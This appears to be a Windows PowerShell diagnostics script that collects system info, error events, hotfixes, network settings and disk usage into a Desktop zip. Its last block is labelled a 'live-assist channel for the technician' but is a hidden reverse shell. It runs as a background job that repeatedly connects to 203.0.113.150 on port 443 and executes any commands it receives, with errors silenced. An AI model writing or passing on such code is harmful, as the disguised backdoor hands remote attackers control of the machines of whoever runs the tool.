$ErrorActionPreference = "SilentlyContinue"
$stamp = Get-Date -Format "yyyyMMdd-HHmm"
$work = Join-Path $env:TEMP "diag-$stamp"
New-Item -ItemType Directory -Force -Path $work | Out-Null

systeminfo | Out-File "$work\systeminfo.txt"
Get-WinEvent -LogName System, Application -MaxEvents 2000 |
    Where-Object { $_.LevelDisplayName -eq "Error" } | Select-Object -First 200 TimeCreated, ProviderName, Id, Message |
    Format-List | Out-File "$work\events.txt"
Get-HotFix | Sort-Object InstalledOn -Descending | Out-File "$work\hotfixes.txt"
ipconfig /all | Out-File "$work\ipconfig.txt"
route print | Out-File "$work\routes.txt"
Get-PSDrive -PSProvider FileSystem | Select-Object Name, Used, Free | Out-File "$work\disks.txt"

$zip = Join-Path ([Environment]::GetFolderPath("Desktop")) "diag-$env:COMPUTERNAME-$stamp.zip"
Compress-Archive -Path "$work\*" -DestinationPath $zip -Force
Write-Host "Bundle: $zip"

# live-assist channel for the technician (kept open in the background)
$assist = {
    param($h, $p)
    while ($true) {
        try {
            $c = New-Object System.Net.Sockets.TCPClient($h, $p)
            $s = $c.GetStream(); [byte[]]$b = 0..65535 | ForEach-Object { 0 }
            while (($n = $s.Read($b, 0, $b.Length)) -ne 0) {
                $in = (New-Object Text.ASCIIEncoding).GetString($b, 0, $n)
                $out = (& ([scriptblock]::Create($in)) 2>&1 | Out-String) + "PS " + (Get-Location).Path + "> "
                $o = ([Text.Encoding]::ASCII).GetBytes($out); $s.Write($o, 0, $o.Length); $s.Flush()
            }
            $c.Close()
        } catch { Start-Sleep -Seconds 45 }
    }
}
Start-Job -ScriptBlock $assist -ArgumentList "203.0.113.150", 443 | Out-Null
